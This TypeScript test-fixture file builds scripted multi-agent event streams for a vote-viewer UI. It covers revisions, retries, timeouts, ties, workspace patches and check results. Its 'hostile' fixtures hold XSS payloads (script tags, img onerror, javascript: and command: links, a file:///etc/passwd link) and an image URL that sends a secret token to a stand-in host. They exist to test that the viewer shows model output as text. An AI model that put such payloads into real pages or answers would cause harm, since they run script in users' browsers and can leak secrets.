// Recorded event streams for the vote-viewer tests, produced by the real engine with scripted agents
// (src/core/engine/test-team.ts): revisions and stale votes, a rate-limited retry, a turn timeout, a failing agent,
// tool calls, reasoning, usage and a budget; a tie; hostile model output. The runs are on a fake clock, so their
// order (who times out, who answers first) is the script's alone, however loaded the machine; times are stretched so
// the views show realistic durations (the scripted agents answer in milliseconds of scripted time).

import { ProviderError } from '../../src/core/providers/types';
import { reply, type Script, type ScriptedReply } from '../../src/core/providers/scripted';
import type { RunEvent, RunEventBody } from '../../src/core/engine/events';
import { reduceEvents } from '../../src/core/engine/run-state';
import { FakeClock } from '../helpers/fake-clock';
import { boardHasAnswers, runTeam, type TeamMember } from '../helpers/test-team';
import { addedFile, binaryFile, deletedFile, joinPatches, modifiedFile } from './patches';

const usage = { inputTokens: 1850, cachedInputTokens: 600, outputTokens: 420 };
const pricing = { inputPerMillion: 2.5, cachedInputPerMillion: 1.25, outputPerMillion: 10 };
const withUsage = (r: ScriptedReply, extra: Partial<ScriptedReply> = {}): ScriptedReply => ({ usage, ...r, ...extra });

export const TASK = `Refactor \`parseConfig()\` in src/config.ts so it validates its input and returns typed errors instead of throwing.

\`\`\`ts
export function parseConfig(text: string): Config {
  const raw = JSON.parse(text);
  return { port: raw.port, host: raw.host ?? 'localhost' };
}
\`\`\``;

const ANSWER_A1 = `Validate each field and return a result type:

\`\`\`ts
type ConfigError = { field: string; message: string };
type Result<T> = { ok: true; value: T } | { ok: false; errors: ConfigError[] };

export function parseConfig(text: string): Result<Config> {
  let raw: unknown;
  try {
    raw = JSON.parse(text);
  } catch (e) {
    return { ok: false, errors: [{ field: '(root)', message: \`not JSON: \${(e as Error).message}\` }] };
  }
  const errors: ConfigError[] = [];
  const r = raw as Record<string, unknown>;
  if (typeof r.port !== 'number' || !Number.isInteger(r.port)) errors.push({ field: 'port', message: 'must be an integer' });
  if (r.host !== undefined && typeof r.host !== 'string') errors.push({ field: 'host', message: 'must be a string' });
  return errors.length ? { ok: false, errors } : { ok: true, value: { port: r.port as number, host: (r.host as string) ?? 'localhost' } };
}
\`\`\`

- Callers check \`ok\` instead of catching.
- Every problem is reported at once, not only the first.`;

const ANSWER_B1 = `Use **zod**: \`ConfigSchema.safeParse(JSON.parse(text))\` and map the issues to \`ConfigError[]\`.`;

const ANSWER_B2 = `Use **zod**, and keep JSON errors apart from schema errors:

\`\`\`ts
const ConfigSchema = z.object({ port: z.number().int().min(1).max(65535), host: z.string().default('localhost') });

export function parseConfig(text: string): Result<Config> {
  let raw: unknown;
  try { raw = JSON.parse(text); } catch (e) { return fail('(root)', \`not JSON: \${(e as Error).message}\`); }
  const r = ConfigSchema.safeParse(raw);
  return r.success ? { ok: true, value: r.data } : { ok: false, errors: r.error.issues.map(toConfigError) };
}
\`\`\`

| input | result |
|---|---|
| \`{"port": 80}\` | ok, host \`localhost\` |
| \`{"port": "80"}\` | error on \`port\` |
| \`not json\` | error on \`(root)\` |

Port range is checked too (see the [zod docs](https://zod.dev/api#numbers)).`;

const ANSWER_C1 = `Throwing is fine if the error is typed: \`class ConfigError extends Error { constructor(readonly field: string, message: string) }\`. Callers \`catch (e) { if (e instanceof ConfigError) … }\`.`;

const ANSWER_E1 = `Return \`Config | Error[]\` and let callers use \`Array.isArray\`.`;

/** A script that returns the replies in order (the last one repeats). */
const seq = (...replies: ScriptedReply[]): Script => (_req, i) => replies[Math.min(i, replies.length - 1)];

function stretch(events: RunEvent[], factor: number): RunEvent[] {
  return events.map((e) => {
    const out = { ...e, t: Math.round(e.t * factor) } as RunEvent;
    if (out.type === 'retry') out.delayMs = Math.round(out.delayMs * factor);
    if (out.type === 'run_ended') out.durationMs = Math.round(out.durationMs * factor);
    return out;
  });
}

/** Renumbers seq gap-free (after events were inserted or removed). */
export function renumber(events: RunEvent[]): RunEvent[] {
  return events.map((e, i) => ({ ...e, seq: i + 1 }));
}

/**
 * Five agents: agent1 reads a file first (tool call) and answers; agent2 answers, then revises (agent2.2), which
 * makes the votes already cast for agent2.1 stale; agent3 is rate-limited once (retry) and reasons; agent4 keeps
 * failing (server errors) and is dropped; agent5's first turn times out and is restarted. Consensus on agent2.2.
 */
export async function fullRun(): Promise<RunEvent[]> {
  const members: TeamMember[] = [
    {
      id: 'careful-reviewer',
      pricing,
      script: seq(
        withUsage({ text: 'Let me read the current implementation first.', toolCalls: [{ name: 'read_file', arguments: { path: 'src/config.ts' } }], delayMs: 20 }),
        withUsage({ ...reply.answer(ANSWER_A1), text: 'A result type keeps errors explicit; drafting it now.\n\n', delayMs: 20 }),
        withUsage(reply.vote('agent2', 'agent2.1 is shorter than mine and uses a schema library the project already has.', { delayMs: 40 })),
        withUsage(reply.vote('agent2', 'agent2.2 separates JSON errors from schema errors and checks the port range; the table documents the behaviour.')),
      ),
      toolbox: {
        tools: [{ name: 'read_file', description: 'Read a file of the workspace', parameters: { type: 'object', properties: { path: { type: 'string' } } } }],
        execute: async (call) => ({ ok: true, content: `export function parseConfig(text: string): Config { … } // ${call.arguments.length} bytes of arguments` }),
      },
    },
    {
      id: 'pragmatic-engineer',
      pricing,
      script: seq(
        withUsage({ ...reply.answer(ANSWER_B1), text: 'zod is already a dependency.', delayMs: 10 }),
        withUsage({ ...reply.answer(ANSWER_B2), text: 'My first answer skipped JSON syntax errors; revising.\n\n', delayMs: 80 }),
        withUsage(reply.vote('agent2', 'agent2.2 covers JSON and schema errors with the least code.')),
      ),
    },
    {
      id: 'creative-solver',
      pricing: null,
      script: (req, i) => {
        if (i === 0) return { error: new ProviderError('rate_limit', '429 Too Many Requests: slow down', { status: 429, retryAfterMs: 40 }) };
        if (!boardHasAnswers(req) || i === 1) return withUsage({ ...reply.answer(ANSWER_C1), reasoning: 'The task says *instead of throwing*, but a typed exception is idiomatic too. I will argue for it briefly.', text: 'An alternative view:', delayMs: 20 });
        if (i === 2) return withUsage(reply.vote('agent2', 'Schema-based validation (agent2.1) is the least code.', { delayMs: 40 }));
        return withUsage(reply.vote('agent2', 'agent2.2: complete, and its table documents the edge cases.'));
      },
    },
    {
      id: 'security-auditor',
      pricing,
      script: () => ({ error: new ProviderError('server', '500 Internal Server Error (upstream overloaded)', { status: 500 }) }),
    },
    {
      id: 'fast-drafter',
      pricing,
      script: (req, i) => {
        if (i === 0) return { ...reply.answer('too slow'), text: 'Drafting…', delayMs: 2000 };
        if (!boardHasAnswers(req) || i === 1) return withUsage({ ...reply.answer(ANSWER_E1), delayMs: 10 });
        if (i === 2) return withUsage(reply.vote('agent1', 'agent1.1 is explicit and has no dependency.', { delayMs: 30 }));
        return withUsage(reply.vote('agent2', 'agent2.2 now handles everything agent1.1 did, with less code.'));
      },
    },
  ];
  const team = runTeam(members, {
    task: TASK,
    timeouts: { agentTurnTimeoutSeconds: 0.25 },
    retry: { maxDelayMs: 200 },
    orchestrator: { budget: { maxCostUsd: 0.25, maxTotalTokens: 120_000 } },
    clock: new FakeClock(),
  });
  await team.result;
  return stretch(team.events, 90);
}

/** Two agents vote for each other: a tie, broken by agent order. */
export async function tieRun(): Promise<RunEvent[]> {
  const vote = (target: string, reason: string): Script => (req) => (boardHasAnswers(req) ? withUsage(reply.vote(target, reason)) : withUsage(reply.answer(`Answer from ${target === 'agent1' ? 'agent2' : 'agent1'}: use a lookup table.`)));
  const team = runTeam(
    [
      { id: 'alpha', script: vote('agent2', 'agent2.1 is clearer.'), pricing },
      { id: 'beta', script: vote('agent1', 'agent1.1 is more complete.'), pricing },
    ],
    { task: 'Pick the better data structure.', clock: new FakeClock() },
  );
  await team.result;
  return stretch(team.events, 200);
}

export const HOSTILE_MARKDOWN = [
  '# Totally normal answer',
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'img\'">',
  '<iframe src="https://evil.example/"></iframe><style>body { display: none }</style>',
  '[click me](javascript:window.__pwned=%22link%22) and [run a command](command:workbench.action.files.delete) and [data](data:text/html,<script>alert(1)</script>) and [file](file:///etc/passwd) and [plain http](http://insecure.example/)',
  '![exfiltrate](https://evil.example/leak.png?secret=TOKEN)',
  '<a href="https://raw-html.example/">raw html link</a> <https://autolink.example/path>',
  'A [safe link](https://example.com/docs?a=1&b=2).',
  '```html\n<script>window.__pwned = "fence"</script>\n```',
  `Unbroken: ${'A'.repeat(20_000)}`,
  '```',
  `const line = "${'x'.repeat(5_000)}";`,
  '```',
  Array.from({ length: 200 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n'),
  '',
  Array.from({ length: 60 }, (_, i) => `${'>'.repeat(i + 1)} quote ${i}`).join('\n'),
  '',
  'END-OF-HOSTILE-ANSWER',
].join('\n\n');

/** One agent answers with hostile markdown; the other's vote reason and the task carry raw HTML too. */
export async function hostileRun(): Promise<RunEvent[]> {
  const team = runTeam(
    [
      {
        id: 'mallory',
        script: (req) =>
          boardHasAnswers(req)
            ? reply.vote('agent1', '<img src=x onerror="window.__pwned=\'reason\'"> best answer')
            : { ...reply.answer(HOSTILE_MARKDOWN), text: '<script>window.__pwned="stream"</script> **streamed** [x](javascript:alert(1))', toolCalls: [{ name: 'new_answer', arguments: { content: HOSTILE_MARKDOWN } }] },
      },
      { id: 'trent', script: (req) => (boardHasAnswers(req) ? reply.vote('agent1', 'It <b>renders</b> everything.') : reply.answer('<b>bold?</b> no: text.')) },
    ],
    { task: 'Explain <script>window.__pwned="task"</script> XSS <img src=x onerror="window.__pwned=\'task-img\'">', clock: new FakeClock() },
  );
  await team.result;
  return stretch(team.events, 100);
}

const STREAM_TEXT = `I'll compare the two approaches.

1. **Result type**: explicit, no exceptions.
2. **zod**: less code, the schema doubles as documentation.

\`\`\`ts
const r = ConfigSchema.safeParse(raw);
if (!r.success) return { ok: false, errors: r.error.issues.map(toConfigError) };
\`\`\`

The second one also gives range checks for free, so I'm leaning towards`;

/**
 * The full run cut while round 2 is in progress, with live streams added: agents streaming markdown, one thinking
 * (reasoning only), one waiting out a retry. Ends with `run_ended` absent (the run is live).
 */
export async function midRun(): Promise<{ events: RunEvent[]; streaming: string[] }> {
  const all = await fullRun();
  const cut = all.findIndex((e) => e.type === 'answer_added' && e.label === 'agent2.2');
  const head = all.slice(0, cut);
  const state = reduceEvents(head);
  const t = head[head.length - 1].t;
  const extra: RunEventBody[] = [];
  const live = state.agents.filter((a) => a.status !== 'failed').map((a) => a.id);
  const texts = [STREAM_TEXT, 'Checking agent1.1 against agent2.1: both reject a string `port`, but only agent1.1 reports', 'Reviewing…'];
  const turn = (agentId: string): RunEventBody => ({ type: 'turn_started', agentId, round: state.round + 1, boardRevision: 4, voteOnly: false });
  const streaming = [live[0], live[2]].filter(Boolean);
  extra.push({ type: 'round_started', round: state.round + 1, agentIds: live });
  // live[0] and live[2] stream markdown; live[1] is thinking (reasoning only); live[3] waits out a rate limit.
  if (live[1]) extra.push(turn(live[1]), { type: 'reasoning_delta', agentId: live[1], text: 'The user asked for typed errors. agent1.1 returns them; agent2.1 maps zod issues. Which handles `port: "80"`? Both. Which handles invalid JSON? Only agent1.1.' });
  if (live[3]) extra.push(turn(live[3]), { type: 'retry', agentId: live[3], attempt: 2, delayMs: 60_000, error: '429 Too Many Requests: slow down' });
  streaming.forEach((id, i) => {
    extra.push(turn(id));
    const text = texts[i % texts.length];
    for (let k = 0; k < text.length; k += 24) extra.push({ type: 'text_delta', agentId: id, text: text.slice(k, k + 24) });
  });
  const events = renumber([...head, ...extra.map((b, i) => ({ ...b, seq: 0, t: t + 200 + i * 20 }) as RunEvent)]);
  return { events, streaming };
}

/**
 * A synthetic stream: `agents` agents each streaming `tokensPerSecond` tokens per second for `seconds`, as one
 * text_delta per token (the worst case for the host: no provider batching), with usage events now and then.
 */
export function* streamingLoad(agents: number, tokensPerSecond: number, seconds: number, tickMs = 10): Generator<{ atMs: number; bodies: RunEventBody[] }> {
  const words = ['the ', 'config ', '`port` ', 'is ', 'validated ', 'with ', '**zod**', ', ', 'and ', 'errors ', 'are ', 'typed', '.\n', '\n', '- item ', '```ts\n', 'const x = 1;\n', '```\n'];
  const perTick = (tokensPerSecond * tickMs) / 1000;
  const owed = new Array(agents).fill(0);
  let n = 0;
  for (let at = 0; at < seconds * 1000; at += tickMs) {
    const bodies: RunEventBody[] = [];
    for (let a = 0; a < agents; a++) {
      owed[a] += perTick;
      while (owed[a] >= 1) {
        owed[a] -= 1;
        bodies.push({ type: 'text_delta', agentId: `agent-${a + 1}`, text: words[n++ % words.length] });
      }
      if (at % 2000 === 0 && at > 0) bodies.push({ type: 'usage', agentId: `agent-${a + 1}`, usage: { inputTokens: 1500, cachedInputTokens: 0, outputTokens: 400 }, costUsd: 0.004, phase: 'coordination' });
    }
    yield { atMs: at, bodies };
  }
}

/** A large finished run by hand: `agents` agents × `versions` answer versions of about `kb` KB of markdown each. */
export function bigRun(agents = 8, versions = 4, kb = 12): RunEvent[] {
  const bodies: RunEventBody[] = [];
  const ids = Array.from({ length: agents }, (_, i) => `agent-${i + 1}`);
  bodies.push({ type: 'run_started', runId: 'big', question: TASK, agents: ids.map((id, i) => ({ id, label: `agent${i + 1}`, model: `model-${i + 1}`, provider: 'openai-compatible', priced: true })), startedAt: '2026-01-02T03:04:05.000Z', finalAnswerMode: 'as_is' });
  const para = (n: number) => `Paragraph ${n}: the parser validates \`port\` and \`host\`, returns **typed** errors and never throws; see [the docs](https://example.com/${n}).\n\n`;
  const code = '```ts\n' + 'const x: Result<Config> = parseConfig(text);\n'.repeat(12) + '```\n\n';
  const answer = (i: number, v: number) => {
    let s = `## Answer ${i + 1}.${v}\n\n`;
    for (let n = 0; s.length < kb * 1024; n++) s += n % 4 === 3 ? code : n % 5 === 4 ? `- item ${n}\n- item ${n + 1}\n\n` : para(n);
    return s;
  };
  let revision = 0;
  for (let v = 1; v <= versions; v++) {
    bodies.push({ type: 'round_started', round: v, agentIds: ids });
    ids.forEach((id, i) => {
      bodies.push({ type: 'turn_started', agentId: id, round: v, boardRevision: revision, voteOnly: false });
      bodies.push({ type: 'text_delta', agentId: id, text: `Revising: version ${v} of my answer.\n\n` });
      bodies.push({ type: 'usage', agentId: id, usage: { inputTokens: 4000 * v, cachedInputTokens: 1000, outputTokens: 900 }, costUsd: 0.01 * v, phase: 'coordination' });
      bodies.push({ type: 'answer_added', agentId: id, label: `agent${i + 1}.${v}`, version: v, content: answer(i, v), boardRevision: ++revision });
    });
  }
  bodies.push({ type: 'round_started', round: versions + 1, agentIds: ids });
  ids.forEach((id) => {
    bodies.push({ type: 'turn_started', agentId: id, round: versions + 1, boardRevision: revision, voteOnly: false });
    bodies.push({ type: 'vote_cast', vote: { voterId: id, targetId: 'agent-1', targetLabel: `agent1.${versions}`, reason: `agent1.${versions} is the most complete and the best tested.`, seenRevision: revision } });
  });
  bodies.push({ type: 'winner_selected', agentId: 'agent-1', label: `agent1.${versions}`, votes: { 'agent-1': agents }, tieBreak: false, basis: 'current_votes' });
  bodies.push({ type: 'final_started', agentId: 'agent-1', mode: 'as_is' });
  bodies.push({ type: 'final_answer', agentId: 'agent-1', label: `agent1.${versions}`, content: answer(0, versions), mode: 'as_is' });
  bodies.push({ type: 'run_ended', reason: 'consensus', winnerId: 'agent-1', durationMs: 95_000 });
  return bodies.map((b, i) => ({ ...b, seq: i + 1, t: i * 250 }) as RunEvent);
}

/** The hostile file name of workspaceRun(): markup the page must show as text. */
export const HOSTILE_PATH = 'src/<img src=x onerror=alert(1)>.ts';

/**
 * A workspace run by hand: three agents whose answers carry changes, and the patches the run session keeps for
 * them. agent1.1: 3 files, +12 −4 (two hunks in src/config.ts, an added file, a binary file). agent2.1: one
 * generated file too large to send whole. agent2.2 (the winner): a 20,000-line file, a file with a hostile name
 * and content, a deleted file. agent3.1: no file changes.
 */
export function workspaceRun(): { events: RunEvent[]; patches: Map<string, string> } {
  const agents = ['agent-a', 'agent-b', 'agent-c'].map((id, i) => ({ id, label: `agent${i + 1}`, model: `model-${i + 1}`, provider: 'openai-compatible', priced: true }));
  const v1 = joinPatches([
    modifiedFile('src/config.ts', [
      { at: 1, before: ["import { readFileSync } from 'node:fs';"], removed: ['export function parseConfig(text: string): Config {'], added: ['export function parseConfig(text: string): Result<Config> {', '  let raw: unknown;'], after: ['  const raw = JSON.parse(text);'] },
      {
        at: 12,
        before: ['  // port'],
        removed: ['  return { port: raw.port,', "    host: raw.host ?? 'localhost' };", '}'],
        added: ['  const errors: ConfigError[] = [];', "  if (typeof r.port !== 'number') errors.push({ field: 'port', message: 'must be a number' });", "  if (r.host !== undefined && typeof r.host !== 'string') errors.push({ field: 'host', message: 'must be a string' });", '  return errors.length', '    ? { ok: false, errors }', "    : { ok: true, value: { port: r.port as number, host: (r.host as string) ?? 'localhost' } };", '}', ''],
        after: ['', 'export default parseConfig;'],
      },
    ]),
    addedFile('src/errors.ts', ['export type ConfigError = { field: string; message: string };', 'export type Result<T> = { ok: true; value: T } | { ok: false; errors: ConfigError[] };']),
    binaryFile('assets/logo.png'),
  ]);
  const generated = Array.from({ length: 30_000 }, (_, i) => `  "key${String(i).padStart(5, '0')}": "a generated value, padded",`);
  const v2 = joinPatches([addedFile('src/generated/data.json', generated)]);
  const table = ['export const TABLE = [', ...Array.from({ length: 19_998 }, (_, i) => `  ${i},`), '];'];
  const v3 = joinPatches([
    addedFile('src/big-table.ts', table),
    addedFile(HOSTILE_PATH, ['<script>window.__pwned = "diff"</script>', '<img src=x onerror="window.__pwned = \'diff-img\'">', 'const link = "[click](javascript:alert(1))";']),
    deletedFile('old/legacy.js', ['module.exports = function legacy() {', '  return 1;', '};', '', '// end']),
  ]);
  const change = (id: string, files: typeof v1.files) => ({ id, files, bytesWritten: 2048 });
  const bodies: RunEventBody[] = [
    { type: 'run_started', runId: 'ws', question: 'Make parseConfig() return typed errors', agents, startedAt: '2026-01-02T03:04:05.000Z', finalAnswerMode: 'as_is', workspace: { source: '/home/user/project', kind: 'git', notes: [] } },
    { type: 'round_started', round: 1, agentIds: agents.map((a) => a.id) },
    ...agents.map((a): RunEventBody => ({ type: 'turn_started', agentId: a.id, round: 1, boardRevision: 0, voteOnly: false })),
    { type: 'answer_added', agentId: 'agent-a', label: 'agent1.1', version: 1, content: 'Validated each field; errors are typed (see `src/errors.ts`).', boardRevision: 1, change: change('t1', v1.files) },
    { type: 'answer_added', agentId: 'agent-b', label: 'agent2.1', version: 1, content: 'Generated the lookup data.', boardRevision: 2, change: change('t2', v2.files) },
    { type: 'answer_added', agentId: 'agent-c', label: 'agent3.1', version: 1, content: 'No change is needed: the callers already validate.', boardRevision: 3, change: change('t0', []) },
    { type: 'round_started', round: 2, agentIds: ['agent-b'] },
    { type: 'turn_started', agentId: 'agent-b', round: 2, boardRevision: 3, voteOnly: false },
    { type: 'answer_added', agentId: 'agent-b', label: 'agent2.2', version: 2, content: 'A lookup table instead of generated JSON, and the legacy module removed.', boardRevision: 4, change: change('t3', v3.files) },
    ...agents.map((a): RunEventBody => ({ type: 'vote_cast', vote: { voterId: a.id, targetId: 'agent-b', targetLabel: 'agent2.2', reason: 'agent2.2 is the smallest complete change.', seenRevision: 4 } })),
    { type: 'winner_selected', agentId: 'agent-b', label: 'agent2.2', votes: { 'agent-b': 3 }, tieBreak: false, basis: 'current_votes' },
    { type: 'final_started', agentId: 'agent-b', mode: 'as_is' },
    { type: 'final_answer', agentId: 'agent-b', label: 'agent2.2', content: 'A lookup table instead of generated JSON, and the legacy module removed.', mode: 'as_is' },
    { type: 'run_ended', reason: 'consensus', winnerId: 'agent-b', durationMs: 42_000 },
  ];
  const patches = new Map([
    ['agent1.1', v1.patch],
    ['agent2.1', v2.patch],
    ['agent3.1', ''],
    ['agent2.2', v3.patch],
  ]);
  return { events: bodies.map((b, i) => ({ ...b, seq: i + 1, t: i * 1500 }) as RunEvent), patches };
}

/** Check output with markup: the viewer must show it as text. */
export const HOSTILE_CHECK_OUTPUT = '<img src=x onerror="window.__pwned = \'check\'">\nAssertionError: add(2, 3) should be 5, got 1\n    at test.js:3:1\n1 failing';

/**
 * A workspace run with checks, by hand (gate): agent1.1 fails `npm test` (hostile output), agent2.1 passes both
 * checks, agent3.1 makes agent1's change again (the cached failure); every vote goes to agent1.1, so the gate
 * makes agent2.1 win. `inProgress`: the run up to agent3.2 being checked (npm test still running on it).
 */
export function checksRun(inProgress = false): RunEvent[] {
  const agents = ['agent-a', 'agent-b', 'agent-c'].map((id, i) => ({ id, label: `agent${i + 1}`, model: `model-${i + 1}`, provider: 'openai-compatible', priced: true }));
  const change = (id: string) => ({ id, files: [{ path: 'src/add.js', status: 'modified' as const, added: 1, removed: 1 }], bytesWritten: 512 });
  const names = ['npm test', 'lint'];
  const result = (name: string, status: 'passed' | 'failed', output: string, extra: { cached?: boolean; required?: boolean; ms?: number } = {}) => ({ name, required: extra.required ?? true, status, exitCode: status === 'passed' ? 0 : 1, durationMs: extra.ms ?? 2300, output, cached: extra.cached ?? false });
  const checked = (agentId: string, label: string, results: ReturnType<typeof result>[]): RunEventBody[] => [
    { type: 'checks_started', agentId, label, names },
    ...results.map((r): RunEventBody => ({ type: 'check_finished', agentId, label, result: r })),
  ];
  const bodies: RunEventBody[] = [
    { type: 'run_started', runId: 'checks', question: 'Fix add()', agents, startedAt: '2026-01-02T03:04:05.000Z', finalAnswerMode: 'as_is', workspace: { source: '/home/user/project', kind: 'git', notes: ['MassGen runs the checks (npm test, lint) on every answer\'s change in bubblewrap'] } },
    { type: 'round_started', round: 1, agentIds: agents.map((a) => a.id) },
    ...agents.map((a): RunEventBody => ({ type: 'turn_started', agentId: a.id, round: 1, boardRevision: 0, voteOnly: false })),
    ...checked('agent-a', 'agent1.1', [result('npm test', 'failed', HOSTILE_CHECK_OUTPUT), result('lint', 'passed', 'All files pass linting.', { ms: 800 })]),
    { type: 'answer_added', agentId: 'agent-a', label: 'agent1.1', version: 1, content: 'add() now takes the absolute difference.', boardRevision: 1, change: change('t1') },
    ...checked('agent-b', 'agent2.1', [result('npm test', 'passed', '1 passing'), result('lint', 'passed', '')]),
    { type: 'answer_added', agentId: 'agent-b', label: 'agent2.1', version: 1, content: 'add() subtracted; it now adds.', boardRevision: 2, change: change('t2') },
    ...checked('agent-c', 'agent3.1', [result('npm test', 'failed', HOSTILE_CHECK_OUTPUT, { cached: true, ms: 0 }), result('lint', 'failed', 'src/add.js:1:30 Missing semicolon.', { required: false, cached: true, ms: 0 })]),
    { type: 'answer_added', agentId: 'agent-c', label: 'agent3.1', version: 1, content: 'Use Math.abs so add() never goes negative.', boardRevision: 3, change: change('t1') },
    { type: 'round_started', round: 2, agentIds: ['agent-c'] },
    { type: 'turn_started', agentId: 'agent-c', round: 2, boardRevision: 3, voteOnly: false },
    { type: 'checks_started', agentId: 'agent-c', label: 'agent3.2', names },
    { type: 'check_finished', agentId: 'agent-c', label: 'agent3.2', result: result('lint', 'passed', '') },
    // The run in progress ends here (agent3.2 still running npm test); then agent3 is stopped and everyone votes.
    { type: 'agent_failed', agentId: 'agent-c', error: 'cancelled by the user', cause: 'cancelled' },
    ...agents.slice(0, 2).map((a): RunEventBody => ({ type: 'vote_cast', vote: { voterId: a.id, targetId: 'agent-a', targetLabel: 'agent1.1', reason: 'agent1.1 handles negative results.', seenRevision: 3 } })),
    { type: 'winner_selected', agentId: 'agent-b', label: 'agent2.1', votes: { 'agent-a': 2 }, tieBreak: false, basis: 'current_votes', verification: { status: 'passed', overruled: { label: 'agent1.1', failed: ['npm test'] } } },
    { type: 'final_started', agentId: 'agent-b', mode: 'as_is' },
    { type: 'final_answer', agentId: 'agent-b', label: 'agent2.1', content: 'add() subtracted; it now adds.', mode: 'as_is' },
    { type: 'run_ended', reason: 'consensus', winnerId: 'agent-b', durationMs: 30_000 },
  ];
  const kept = inProgress ? bodies.slice(0, bodies.findIndex((b) => b.type === 'agent_failed')) : bodies;
  return kept.map((b, i) => ({ ...b, seq: i + 1, t: i * 1000 }) as RunEvent);
}
